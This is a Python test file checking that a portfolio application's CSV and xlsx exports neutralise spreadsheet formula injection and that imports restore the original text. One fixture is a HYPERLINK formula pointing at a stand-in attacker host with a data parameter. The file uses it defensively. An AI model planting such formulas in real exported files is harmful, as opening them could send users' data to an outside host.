"""Text that looks like a spreadsheet formula is exported inert and imported unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from app.database import create_sync_engine
from app.exchange.sheets import escape_formula, unescape_formula
from app.settings import Settings
from tests.importexport.exchange_files import export, run_import

HYPERLINK = '=HYPERLINK("http://evil.example/stjel?data=1","Klikk her")'
# column of PLL -> planted text; every character that starts a formula, and an apostrophe
PLANTED = {
    "contact_person": HYPERLINK,
    "purpose": "+47 22 00 00 00 er sentralbordet",
    "name": "-redusert omfang",
    "entry_criteria_note": "@SUM(1+1)",
}
CONTROL_CHARACTERS = {"contact_person": "\tinnrykket", "purpose": "\rvognretur"}


def plant(database_url: str, code: str, values: dict[str, str]) -> None:
    engine = create_sync_engine(Settings(database_url=database_url))
    with engine.begin() as connection:
        connection.execute(
            sa.text(
                "UPDATE initiative SET "
                + ", ".join(f"{column} = :{column}" for column in values)
                + " WHERE code = :code"
            ),
            {**values, "code": code},
        )
    engine.dispose()


def stored(database_url: str, code: str, columns: list[str]) -> dict[str, str]:
    engine = create_sync_engine(Settings(database_url=database_url))
    with engine.connect() as connection:
        row = connection.execute(
            sa.text(f"SELECT {', '.join(columns)} FROM initiative WHERE code = :code"),
            {"code": code},
        ).one()
    engine.dispose()
    return dict(row._mapping)


def csv_cells(path: Path, sheet: str, code: str) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        text = archive.read(f"{sheet}.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return next(dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[0] == code)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''+1", "'quoted'", "'", "PLL", ""],
)
def test_escaped_formula_text_reads_back_as_it_was(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


def test_csv_export_prefixes_formula_like_text_and_import_restores_it(
    fresh_seeded_database_url: str, reference_database_url: str, tmp_path: Path
) -> None:
    # Given initiatives whose text starts with each formula character or an apostrophe
    plant(fresh_seeded_database_url, "PLL", PLANTED)
    plant(fresh_seeded_database_url, "HP", {**CONTROL_CHARACTERS, "name": "'=allerede sitert"})

    # When the portfolio is exported as CSV
    exported = export(fresh_seeded_database_url, tmp_path, "csv", "p.zip")

    # Then every such cell starts with an apostrophe (OWASP) ...
    pll = csv_cells(exported, "Initiatives", "PLL")
    assert {column: pll[column] for column in PLANTED} == {
        column: "'" + text for column, text in PLANTED.items()
    }
    hp = csv_cells(exported, "Initiatives", "HP")
    assert hp["contact_person"] == "'\tinnrykket"
    assert hp["purpose"] == "'\rvognretur"
    assert hp["name"] == "''=allerede sitert"
    # ... and importing the file stores the text as it was
    assert run_import(reference_database_url, exported) == 0
    assert stored(reference_database_url, "PLL", list(PLANTED)) == PLANTED
    assert stored(reference_database_url, "HP", [*CONTROL_CHARACTERS, "name"]) == {
        **CONTROL_CHARACTERS,
        "name": "'=allerede sitert",
    }


def test_xlsx_export_writes_formula_like_text_as_string_cells_and_import_restores_it(
    fresh_seeded_database_url: str, reference_database_url: str, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    # Given initiatives whose text starts with each formula character or a tab
    plant(fresh_seeded_database_url, "PLL", PLANTED)
    plant(fresh_seeded_database_url, "HP", {"contact_person": "\tinnrykket"})

    # When the portfolio is exported as xlsx
    exported = export(fresh_seeded_database_url, tmp_path, "xlsx", "p.xlsx")

    # Then those cells are string cells holding the text, not formulas ...
    sheet = load_workbook(exported)["Initiatives"]
    header = [cell.value for cell in sheet[1]]
    pll = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "PLL")
    for column, text in PLANTED.items():
        cell = pll[header.index(column)]
        assert (cell.data_type, cell.value) == ("s", text)
    # ... and importing the file stores the text as it was
    assert run_import(reference_database_url, exported) == 0
    assert stored(reference_database_url, "PLL", list(PLANTED)) == PLANTED
    assert stored(reference_database_url, "HP", ["contact_person"]) == {
        "contact_person": "\tinnrykket"
    }
